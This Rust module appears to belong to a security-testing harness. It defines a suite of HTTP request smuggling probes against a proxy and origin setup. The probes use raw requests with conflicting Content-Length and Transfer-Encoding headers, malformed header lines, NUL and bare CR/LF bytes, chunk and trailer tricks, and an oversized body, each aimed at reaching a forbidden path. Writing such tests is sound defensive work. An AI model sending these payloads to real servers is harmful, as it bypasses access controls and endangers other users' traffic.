//! Smuggling: requests whose end two readers see in different places, with one that is not granted in between.
//!
//! Each is sent under the planted grant, whose origin is the lenient reader; where nothing is granted they are inapplicable.
//! The last sends more bytes than the grant has, and so comes after all others.

use crate::attempt::Attempt;
use crate::classes::{Class, class};
use crate::finding::Finding;
use crate::inside::grant::{beyond, say};
use crate::inside::knock::{Piece, beyond_grant, mark, pieces};
use crate::plants::{PlantError, Plants};

pub(crate) const ATTEMPTS: &[Attempt] = &[
    beyond(
        "smuggle-length-before-chunks",
        "Ends a body by a length and by chunks, the chunks first.",
        |plants| {
            say(
                plants,
                &[
                    "GET /open/x HTTP/1.1\r\nHost: NAME:PORT\r\nContent-Length: 400\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
                    "GET /closed/MARK LAST",
                ],
            )
        },
    ),
    beyond(
        "smuggle-chunks-before-length",
        "Ends a body by chunks and by a length, the length first.",
        |plants| {
            say(
                plants,
                &[
                    "GET /open/x HTTP/1.1\r\nHost: NAME:PORT\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n",
                    "2e\r\nGET /closed/MARK HTTP/1.1\r\n\r\n0\r\n\r\n",
                ],
            )
        },
    ),
    beyond("smuggle-two-lengths", "Gives a body two lengths.", |plants| {
        say(
            plants,
            &[
                "GET /open/x HTTP/1.1\r\nHost: NAME:PORT\r\nContent-Length: 0\r\nContent-Length: 300\r\n\r\n",
                "GET /closed/MARK LAST",
            ],
        )
    }),
    beyond("smuggle-signed-length", "Gives a body a length with a sign.", |plants| {
        say(
            plants,
            &[
                "GET /open/x HTTP/1.1\r\nHost: NAME:PORT\r\nContent-Length: +300\r\n\r\n",
                "GET /closed/MARK LAST",
            ],
        )
    }),
    beyond("smuggle-two-codings", "Names the chunks twice, once misspelt.", |plants| {
        say(
            plants,
            &[
                "GET /open/x HTTP/1.1\r\nHost: NAME:PORT\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
                "GET /closed/MARK LAST",
            ],
        )
    }),
    beyond("smuggle-blank-before-colon", "Writes a blank before the colon of the chunks.", |plants| {
        say(
            plants,
            &[
                "GET /open/x HTTP/1.1\r\nHost: NAME:PORT\r\nContent-Length: 300\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
                "GET /closed/MARK LAST",
            ],
        )
    }),
    beyond("smuggle-folded-field", "Folds the field of the chunks over two lines.", |plants| {
        say(
            plants,
            &[
                "GET /open/x HTTP/1.1\r\nHost: NAME:PORT\r\nContent-Length: 300\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n",
                "GET /closed/MARK LAST",
            ],
        )
    }),
    beyond("smuggle-bare-line-feed", "Ends a line of the head without a carriage return.", |plants| {
        say(
            plants,
            &[
                "GET /open/x HTTP/1.1\r\nHost: NAME:PORT\r\nContent-Length: 300\r\nX: y\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
                "GET /closed/MARK LAST",
            ],
        )
    }),
    beyond("smuggle-bare-carriage-return", "Hides a field behind a lone carriage return.", |plants| {
        say(
            plants,
            &[
                "GET /open/x HTTP/1.1\r\nHost: NAME:PORT\r\nX: y\rX-HTTP-Method-Override: MARK\r\nConnection: close\r\n\r\n",
            ],
        )
    }),
    beyond("smuggle-nul", "Writes a zero byte into a field.", |plants| {
        say(
            plants,
            &[
                "GET /open/x HTTP/1.1\r\nHost: NAME:PORT\r\nX-HTTP-Method-Override\0: MARK\r\nConnection: close\r\n\r\n",
            ],
        )
    }),
    beyond("smuggle-line-in-target", "Writes the end of a line into the target.", |plants| {
        say(
            plants,
            &[
                "GET /open/x\tHTTP/1.1\r\nX: /closed/MARK HTTP/1.1\r\nHost: NAME:PORT\r\nConnection: close\r\n\r\n",
            ],
        )
    }),
    beyond("smuggle-chunk-extension", "Puts bytes into the extension of a chunk.", |plants| {
        say(
            plants,
            &[
                "GET /open/x HTTP/1.1\r\nHost: NAME:PORT\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n",
                "1;x=MARK\r\na\r\n0\r\n\r\n",
            ],
        )
    }),
    beyond("smuggle-chunk-size", "Writes the size of a chunk as no reader agrees on.", |plants| {
        say(
            plants,
            &[
                "GET /open/x HTTP/1.1\r\nHost: NAME:PORT\r\nTransfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n",
                "GET /closed/MARK LAST",
            ],
        )
    }),
    beyond("smuggle-trailer", "Puts a field that belongs into the head behind the body.", |plants| {
        say(
            plants,
            &[
                "GET /open/x HTTP/1.1\r\nHost: NAME:PORT\r\nTransfer-Encoding: chunked\r\nTrailer: X-Original-URL\r\nConnection: close\r\n\r\n",
                "1\r\na\r\n0\r\nX-Original-URL: /closed/MARK\r\n\r\n",
            ],
        )
    }),
    beyond("smuggle-expectation", "Asks the origin to go on, and goes on with another request.", |plants| {
        say(
            plants,
            &[
                "GET /open/x HTTP/1.1\r\nHost: NAME:PORT\r\nExpect: 100-continue\r\n\r\n",
                "GET /closed/MARK LAST",
            ],
        )
    }),
    beyond("grant-over-budget", "Sends more bytes than the grant has.", over_budget),
];

pub(crate) const CLASSES: &[Class] = &[
    class(
        "two-lengths",
        11,
        &[
            "smuggle-length-before-chunks",
            "smuggle-chunks-before-length",
            "smuggle-two-lengths",
            "smuggle-two-codings",
            "smuggle-blank-before-colon",
            "smuggle-signed-length",
        ],
    ),
    class(
        "odd-heads",
        11,
        &[
            "smuggle-folded-field",
            "smuggle-bare-line-feed",
            "smuggle-bare-carriage-return",
            "smuggle-nul",
            "smuggle-line-in-target",
        ],
    ),
    class(
        "odd-bodies",
        11,
        &["smuggle-chunk-extension", "smuggle-chunk-size", "smuggle-trailer", "smuggle-expectation"],
    ),
    class("budgets", 15, &["grant-over-budget"]),
];

/// More than the planted grant lets out, which is 128 kB.
const BEYOND_BUDGET_BYTES: usize = 192 << 10;

fn over_budget(plants: &Plants) -> Result<Finding, PlantError> {
    let length = BEYOND_BUDGET_BYTES + mark(plants)?.len();
    let head = format!(
        "GET /open/x HTTP/1.1\r\nHost: NAME:PORT\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n"
    );
    let mut said = pieces(plants, &[&head])?;
    said.push(Piece::Say(vec![b'.'; BEYOND_BUDGET_BYTES]));
    said.extend(pieces(plants, &["MARK"])?);
    beyond_grant(plants, &said)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inside::knock::tests::scene;

    #[test]
    fn outside_each_reaches_the_origin_and_is_heard() {
        let mut scene = scene();
        scene.plants.add("origin-host", "origin.invalid").unwrap();
        for attempt in ATTEMPTS {
            assert!(scene.witnessed(attempt).is_some(), "{}", attempt.id);
        }
    }
}
